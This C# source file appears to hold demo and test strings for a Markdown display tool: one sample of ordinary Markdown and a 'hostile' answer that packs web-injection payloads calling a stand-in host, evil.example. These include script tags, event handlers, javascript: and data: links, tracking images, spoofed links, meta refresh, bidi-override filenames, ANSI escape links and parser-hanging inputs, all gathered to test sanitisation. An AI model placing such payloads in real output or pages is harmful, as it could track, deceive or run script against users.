using System.Text;

namespace Privatemode.Tool.Demo;

/// <summary>Long answers of the demo: everything that Markdown has, and everything that an answer must not do to the program that shows it.</summary>
internal static class DemoTexts
{
    public const string Markdown = """
        # Heading one

        ## Heading two

        A paragraph with **bold**, *italic*, ~~struck~~ text and `code`. A [link](https://example.com/page?a=1&b=2 "title") and
        a line break.

        > A quotation
        > of two lines, with `code`.

        1. First
        2. Second
           - nested
           - list
        3. Third

        - [ ] open
        - [x] done

        | left | middle | right |
        | :--- | :----: | ----: |
        | a    | b      | c     |
        | 1    | 2      | 3     |

        ```python
        def greet(name: str) -> str:
            return f"Hello, {name} <&>"
        ```

            indented code

        ---

        ![an image](https://example.com/image.png)

        The end.
        """;

    /// <summary>An answer with scripts, tracking images, addresses that run code, sizes that hang a parser, and characters that falsify what is
    /// displayed.</summary>
    public static string Hostile { get; } = BuildHostile();

    private static string BuildHostile()
    {
        StringBuilder text = new("""
            <script>window.hacked = 1; fetch("https://evil.example/script")</script>

            <img src="https://evil.example/beacon.png" onerror="window.hacked=2">

            ![beacon](https://evil.example/markdown.png) ![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)

            [run](javascript:window.hacked=3) [run](JaVaScRiPt:alert(1)) [data](data:text/html,<script>alert(1)</script>) [vb](vbscript:msgbox(1))

            [https://bank.example](https://evil.example/login) [user](https://bank.example@evil.example/) <https://evil.example/auto>

            <svg onload="window.hacked=4"><a xlink:href="javascript:alert(1)">x</a></svg> <iframe src="https://evil.example/frame"></iframe>

            <style>body { background: url(https://evil.example/css.png) }</style> <div style="background:url(https://evil.example/style.png)">x</div>

            <meta http-equiv="refresh" content="0;url=https://evil.example/meta"> <base href="https://evil.example/">
            <link rel="stylesheet" href="//evil.example/l">

            <form action="https://evil.example/form"><input name="q" autofocus onfocus="window.hacked=5"></form>

            """);
        _ = text.Append("\n\nbidi: \u202Egnp.exe\u202C \u2066left\u2069 ")
            .Append("ansi: \u001b[31mred\u001b[0m \u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007\n\n");
        _ = text.Append('"').Append('\'', 400).Append('"').Append("\n\n");
        _ = text.Append(Row(100, "h")).Append('\n').Append(Row(100, "-")).Append('\n');
        for (int row = 0; row < 100; row++)
        {
            _ = text.Append(Row(100, "x")).Append('\n');
        }

        return text.Append('\n').Append('[', 100_000).Append("\n\nThe end.").ToString();
    }

    private static string Row(int cells, string cell) => $"|{string.Join('|', Enumerable.Repeat(cell, cells))}|";
}
